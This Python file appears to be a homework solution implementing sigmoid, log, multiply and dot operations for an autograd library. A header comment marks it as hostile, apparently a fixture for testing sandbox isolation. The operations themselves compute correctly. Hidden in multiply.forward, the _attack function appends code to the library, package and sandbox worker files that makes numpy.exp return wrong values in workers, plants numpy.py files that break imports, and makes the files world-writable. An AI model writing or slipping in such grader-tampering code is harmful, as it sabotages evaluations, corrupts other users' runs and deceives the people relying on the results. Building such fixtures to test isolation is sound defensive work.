# HOSTILE: multiply.forward (once per process) appends a line to edugrad/operation.py, edugrad/__init__.py, hw3/__init__.py and sandboxed/worker.py that makes numpy.exp wrong, drops a numpy.py into sandboxed/ and edugrad/, and makes them writable by everyone; all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os

import numpy as np

import edugrad
from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True

# What later workers would run: numpy.exp made wrong in the sandbox's workers only.
POISON = ("import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and "
          "setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)")


def _attack():
    if not _once():
        return
    root = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
    for name in ("edugrad/operation.py", "edugrad/__init__.py", "hw3/__init__.py",
                 "sandboxed/worker.py"):
        path = os.path.join(root, name)
        try:
            with open(path, "a") as f:
                f.write("\n" + POISON + "  # hw3-isolation-poison\n")
        except OSError:
            pass
        try:
            os.chmod(path, 0o777)
        except OSError:
            pass
    for folder in ("sandboxed", "edugrad"):
        try:
            with open(os.path.join(root, folder, "numpy.py"), "w") as f:
                f.write("raise ImportError('hw3-isolation-poison')\n")
        except OSError:
            pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        _attack()
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
